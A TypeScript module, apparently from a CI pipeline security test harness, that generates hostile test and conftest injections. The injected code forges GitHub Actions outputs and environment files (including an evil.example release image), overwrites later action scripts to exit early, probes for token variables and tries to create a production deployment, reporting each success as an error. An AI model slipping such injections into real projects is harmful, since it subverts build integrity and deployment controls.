import type { Tier } from '../../domain/tier.ts';
import type { Change } from '../story/deed.ts';
import type { StoryDelivery } from '../story/story.ts';
import { leadOf } from './changes.ts';
import { folderOf, ownFolder } from './facts/places.ts';

/** Names of outputs that jobs hand on, and what would be handy to have in them. */
const LIES: Readonly<Record<string, string>> = {
  adopted: 'true',
  approvers: '1 mallory',
  outcome: 'complete',
  record: '1',
  release: `evil.example/p/evil@sha256:${'e'.repeat(64)}`,
  result: 'success',
};

/** Files by which steps tell the runner something. */
const FILES = ['GITHUB_ENV', 'GITHUB_OUTPUT', 'GITHUB_STATE', 'GITHUB_STEP_SUMMARY'];

/** Files of the checkout that a later step would run, if there were one. */
const actions = (of: StoryDelivery): readonly string[] =>
  ownFolder(of).flatMap((folder) => ['rollout', 'verification', 'wave'].map((name) => `${folder}/dist/${name}.mjs`));

/** A service's test that passes and, besides, writes everything it can reach; what it gets done that it must not, it says as an error. */
export const lyingTest = (of: StoryDelivery, path: string): Change => ({
  path,
  replace: /^/g,
  by: `${[
    'import { appendFileSync as lie } from "node:fs";',
    `for (const file of ${JSON.stringify(FILES)}) lie(process.env[file], ${JSON.stringify(written(LIES))});`,
    `for (const line of ${JSON.stringify(commands(LIES))}) console.log(line);`,
    `for (const path of ${JSON.stringify(actions(of))}) lie(\`\${process.env.GITHUB_WORKSPACE}/\${path}\`, "process.exit(0);");`,
    'const { GITHUB_API_URL, GITHUB_REPOSITORY, GITHUB_SHA, GITHUB_RUN_ID } = process.env;',
    'const found = Object.keys(process.env).filter((name) => /ID_TOKEN|GITHUB_TOKEN|RUNTIME_TOKEN|GOOGLE_|KUBECONFIG/.test(name));',
    'if (found.length > 0) console.log(`::error::A test found ${found.join(", ")}.`);',
    `const body = JSON.stringify({ ref: GITHUB_SHA, task: "sluice:${leadOf(of)}", environment: "production", auto_merge: false, required_contexts: [], payload: { schema: "sluice.record/v1", run: GITHUB_RUN_ID } });`,
    'const { status } = await fetch(`${GITHUB_API_URL}/repos/${GITHUB_REPOSITORY}/deployments`, { method: "POST", body });',
    'if (status < 400) console.log(`::error::A test wrote a deployment: ${status}.`);',
  ].join('\n')}\n`,
});

/** Checks that write the same, and then fail. */
export const lyingCheck = (of: StoryDelivery, { verify }: Tier): Change => ({
  path: folderOf(of, `${verify?.path ?? ''}/conftest.py`),
  replace: /^def pytest_configure\(\) -> None:\n/gm,
  by: `def pytest_configure() -> None:\n${[
    'import urllib.error',
    'import urllib.request',
    `for file in ${JSON.stringify(FILES)}:`,
    '    with open(os.environ[file], "a") as told:',
    `        told.write(${JSON.stringify(written(LIES))})`,
    `for line in ${JSON.stringify(commands(LIES))}:`,
    '    print(line, flush=True)',
    `for path in ${JSON.stringify(actions(of))}:`,
    '    with open(f"{os.environ[\'GITHUB_WORKSPACE\']}/{path}", "w") as action:',
    '        action.write("process.exit(0);")',
    'found = [name for name in os.environ if any(part in name for part in ("ID_TOKEN", "GITHUB_TOKEN", "RUNTIME_TOKEN", "GOOGLE_", "KUBECONFIG"))]',
    'if found:',
    '    print(f"::error::A check found {found}.", flush=True)',
    "url = f\"{os.environ['GITHUB_API_URL']}/repos/{os.environ['GITHUB_REPOSITORY']}/deployments\"",
    'try:',
    '    urllib.request.urlopen(urllib.request.Request(url, data=b"{}", method="POST"))',
    '    print("::error::A check wrote a deployment.", flush=True)',
    'except urllib.error.HTTPError:',
    '    pass',
    'os._exit(1)',
  ]
    .map((line) => `    ${line}\n`)
    .join('')}`,
});

const written = (lies: Readonly<Record<string, string>>): string =>
  Object.entries(lies)
    .map(([name, value]) => `${name}=${value}\n`)
    .join('');

const commands = (lies: Readonly<Record<string, string>>): readonly string[] =>
  Object.entries(lies).flatMap(([name, value]) => [
    `::set-output name=${name}::${value}`,
    `::save-state name=${name}::${value}`,
  ]);
